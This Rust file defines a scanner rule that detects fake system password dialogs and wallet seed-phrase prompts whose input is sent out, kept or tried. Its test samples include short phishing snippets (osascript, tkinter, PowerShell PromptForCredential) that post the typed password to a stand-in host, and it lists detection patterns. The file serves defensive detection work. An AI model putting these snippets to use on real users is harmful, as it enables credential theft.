//! `theft-password-prompt`: the password of the machine is asked for, and kept
//! or sent.

use std::sync::LazyLock;

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::needles::Needles;
use crate::scan::operation::Origins;
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::sending;
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-password-prompt",
    title: "Asks for the password of the machine in a window of its own and sends what is typed",
    severity: Severity::Blocker,
    confidence: Confidence::Medium,
    why: "A system asks for its password itself; a window that looks like it wants the password for somebody else.",
    fix: "Let the system ask, by `sudo` or its own dialogs.",
    references: &["CWE-522", "ATT&CK T1056.002"],
    hits: &[
        Sample::File(
            "a.sh",
            "PW=$(osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer')\ncurl -d \"p=$PW\" https://acc.example.com/l\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import getpass, requests\nfrom tkinter import simpledialog\np = simpledialog.askstring('System', 'Password for ' + getpass.getuser(), show='*')\nrequests.post('https://acc.example.com/l', json={'p': p})\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const { execSync } = require('child_process');\nconst p = execSync(`osascript -e 'display dialog \"Enter the password of this Mac\" default answer \"\" with hidden answer'`).toString();\nfetch('https://acc.example.com/l', { method: 'POST', body: p });\n",
        ),
        Sample::File(
            "a.ps1",
            "$c = $host.ui.PromptForCredential('Windows Security', 'Sign in', $env:USERNAME, '')\nInvoke-RestMethod -Uri https://acc.example.com/l -Method Post -Body $c.GetNetworkCredential().Password\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "import getpass, requests\np = getpass.getpass('Password of the service: ')\nrequests.post('https://api.example.com/login', json={'p': p})\n",
        ),
        Sample::File(
            "a.sh",
            "read -rsp 'Token: ' t\ncurl -H \"Authorization: Bearer $t\" https://api.example.com/v1\n",
        ),
        Sample::File(
            "a.ps1",
            "$c = Get-Credential\nInvoke-RestMethod -Uri https://api.example.com -Credential $c\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    if let Some(span) = asks_for_seed(unit) {
        reporter
            .raise(span)
            .message("Asks for the words or the key of a wallet and sends what is typed");
        return;
    }
    let Some(at) = dialog(&unit.text) else { return };
    if !is_systems(&unit.text) {
        return;
    }
    // What is typed is followed no further than to a sending that carries
    // something.
    let sent = sending::all(unit)
        .into_iter()
        .find(|sending| !sending.origins.is_constant() && !sending.to_vendor());
    if let Some(sending) = sent {
        reporter.raise_flow(sending.span, &sending.way);
        return;
    }
    let kept = command::writes(unit).find(|(_, path, content)| {
        !path.starts_with("/dev/") && !content.origins.is_constant() && is_hidden(path)
    });
    let tried = command::all(unit).any(|command| {
        command.is(&["dscl"]) && command.has("-authonly")
            || command.is(&["security"]) && command.has("unlock-keychain")
    });
    if let Some((span, _, _)) = kept {
        reporter
            .raise(span)
            .message("Asks for the password of the machine and keeps what is typed");
    } else if tried || unit.text.contains("-authonly") {
        let away = unit.text.contains("://")
            && ["curl ", "wget ", "urlopen(", "requests.post(", "fetch("]
                .iter()
                .any(|call| unit.text.contains(call));
        let raised = reporter.raise(at);
        raised.message("Asks for the password of the machine and tries it");
        if !away {
            raised.severity(Severity::Error);
        }
    } else if unit.lowered.operations.iter().any(|operation| {
        matches!(&operation.act, crate::scan::operation::Act::Execute { input, .. }
            if input.origins.has(Origins::CAPTURED))
    }) {
        reporter
            .raise(at)
            .severity(Severity::Error)
            .message("Asks for the password of the machine and uses what is typed");
    }
}

fn is_hidden(path: &str) -> bool {
    path.starts_with("/tmp/")
        || path.starts_with("/var/tmp/")
        || path
            .split('/')
            .any(|part| part.len() > 1 && part.starts_with('.'))
}

/// What opens a wallet.
const WALLETS: &[&str] = &[
    "recovery phrase",
    "seed phrase",
    "secret phrase",
    "mnemonic phrase",
    "12-word",
    "24-word",
    "12 word",
    "24 word",
    "wallet private key",
    "助记词",
];

static PHRASES: LazyLock<Needles> = LazyLock::new(|| Needles::new(WALLETS));

/// The text that asks for the words of a wallet, in code that sends what it is
/// given to somebody.
fn asks_for_seed(unit: &Unit) -> Option<Span> {
    const ASKS: &[&str] = &[
        "enter",
        "type",
        "paste",
        "input",
        "provide",
        "请输入",
        "输入",
    ];
    let asks = unit.lowered.literals.iter().find(|literal| {
        // Small letters are those of the search, unless others become ASCII.
        if literal.value.is_ascii() && !PHRASES.any(literal.value.as_bytes()) {
            return false;
        }
        let text = literal.value.to_lowercase();
        text.len() < 400
            && WALLETS.iter().any(|word| text.contains(word))
            && ASKS.iter().any(|word| text.contains(word))
    })?;
    let reads = [
        "input(",
        "readline",
        "prompt(",
        "read -",
        "Read-Host",
        "gets",
        "getpass(",
    ]
    .iter()
    .any(|call| unit.text.contains(call));
    let sent = sending::all(unit)
        .into_iter()
        .any(|sending| sending.host.is_some() && !sending.origins.is_constant());
    (reads && sent && command::is_program(unit)).then_some(asks.span)
}

/// Calls that ask in a window and do not show what is typed.
const DIALOGS: &[&str] = &[
    "with hidden answer",
    "hidden answer true",
    "PromptForCredential(",
    "zenity --password",
    "zenity', '--password",
    "kdialog --password",
    "--passwordbox",
    "show='*'",
    "show=\"*\"",
    "show=\"•\"",
    "show='•'",
    "UIPromptForWindowsCredentials",
    "CredUIPrompt",
];

/// The place of such a call.
fn dialog(text: &str) -> Option<Span> {
    DIALOGS
        .iter()
        .filter_map(|call| {
            let at = memchr::memmem::find(text.as_bytes(), call.as_bytes())?;
            Some(Span::new(at, at + call.len()))
        })
        .min_by_key(|span| span.start)
}

/// Whether what is asked for is the password of the machine: the words say so,
/// or the name of the person goes with it.
fn is_systems(text: &str) -> bool {
    const WORDS: &[&str] = &[
        "macos",
        "windows security",
        "system preferences",
        "system settings",
        "software update",
        "keychain",
        "password of this mac",
        "your mac password",
        "login password",
        "your password to continue",
        "your password to install",
        "administrator",
        "system password",
        "sudo",
        "dscl",
        "getuser()",
        "getlogin()",
        "username",
        "whoami",
        "$user",
        "os.userinfo",
    ];
    let mut end = text.len().min(256 << 10);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let small = text[..end].to_ascii_lowercase();
    WORDS.iter().any(|word| small.contains(word))
}
